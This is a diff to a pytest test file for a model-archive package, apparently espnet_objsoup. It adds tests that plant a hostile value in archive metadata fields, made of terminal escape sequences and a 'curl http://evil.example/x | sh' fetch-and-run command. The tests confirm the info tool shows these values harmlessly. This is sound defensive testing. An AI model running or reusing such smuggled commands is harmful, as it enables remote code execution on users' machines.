@@ -12,6 +12,7 @@ import pytest
 import yaml
 
 import espnet_objsoup
+from espnet_objsoup.bin import info
 from espnet_objsoup.zoo.cache import cache_root
 from espnet_objsoup.zoo.errors import ModelError
 from espnet_objsoup.zoo.pack import PackRequest, pack
@@ -145,7 +146,10 @@ def test_what_is_no_model(
 @pytest.mark.parametrize("version", ["1.0.0", "0.2.0", "0.10.1"])
 def test_models_for_later_versions(weights: bytes, tmp_path: Path, version: str) -> None:
     path = write_zip(tmp_path / "m.zip", *package(weights, version=version).items())
-    with pytest.raises(ModelError, match=rf"made by espnet_objsoup {version}.*: pip install it"):
+    with pytest.raises(
+        ModelError,
+        match=rf'by espnet_objsoup {version},.*: pip install "espnet-objsoup=={version}"$',
+    ):
         find_model(path)
 
 
@@ -170,9 +174,50 @@ def test_other_formats_and_versions_that_are_none(weights: bytes, tmp_path: Path
     path = write_zip(tmp_path / "m.zip", *package(weights, format=2).items())
     with pytest.raises(ModelError, match="expected a model of format 1, found 2"):
         find_model(path)
-    path = write_zip(tmp_path / "n.zip", *package(weights, version="new").items())
-    with pytest.raises(ModelError, match="expected a version of espnet_objsoup such as"):
-        find_model(path)
+    for version in ("new", "0.1.0\x1b[2J", "0.1.0 evil", "0.1.0\n", "0.1"):
+        path = write_zip(tmp_path / "n.zip", *package(weights, version=version).items())
+        if version == "0.1":
+            find_model(path)
+            continue
+        with pytest.raises(ModelError, match="expected a version of espnet_objsoup such as"):
+            find_model(path)
+
+
+_HOSTILE = "\x1b[2J\x1b[1;1H\x9bcurl http://evil.example/x | sh"
+
+
+@pytest.mark.parametrize(
+    "facts",
+    [{"version": "9.0.0", "install": _HOSTILE}, {"format": _HOSTILE}, {"version": _HOSTILE}],
+    ids=["install", "format", "version"],
+)
+def test_no_words_of_an_archive_move_the_cursor_or_are_offered_as_a_command(
+    weights: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str], facts: dict[str, str]
+) -> None:
+    path = write_zip(tmp_path / "m.zip", *package(weights, **facts).items())
+    assert info.main([str(path)]) == 1
+    message = capsys.readouterr().err
+    assert all(c.isprintable() or c == "\n" for c in message)
+    if "install" in facts:
+        assert message.endswith('install what it needs: pip install "espnet-objsoup==9.0.0"\n')
+        assert "curl" not in message
+
+
+def test_what_a_model_says_of_itself_is_shown_harmlessly(
+    weights: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+) -> None:  # fmt: skip
+    entries = package(weights, install=_HOSTILE, corpus=_HOSTILE)
+    meta = yaml.safe_load(entries["meta.yaml"]) | {"espnet": _HOSTILE}
+    entries["meta.yaml"] = yaml.safe_dump(meta).encode()
+    path = write_zip(tmp_path / "m.zip", *entries.items())
+    for arguments in ([str(path)], [str(path), "--json"]):
+        assert info.main(arguments) == 0
+        shown = capsys.readouterr().out
+        assert all(c.isprintable() or c == "\n" for c in shown)
+    assert "evil" in shown
+    assert "made with ESPnet" in caplog.text
+    assert "\x1b" not in caplog.text
 
 
 def test_another_espnet_is_a_warning(
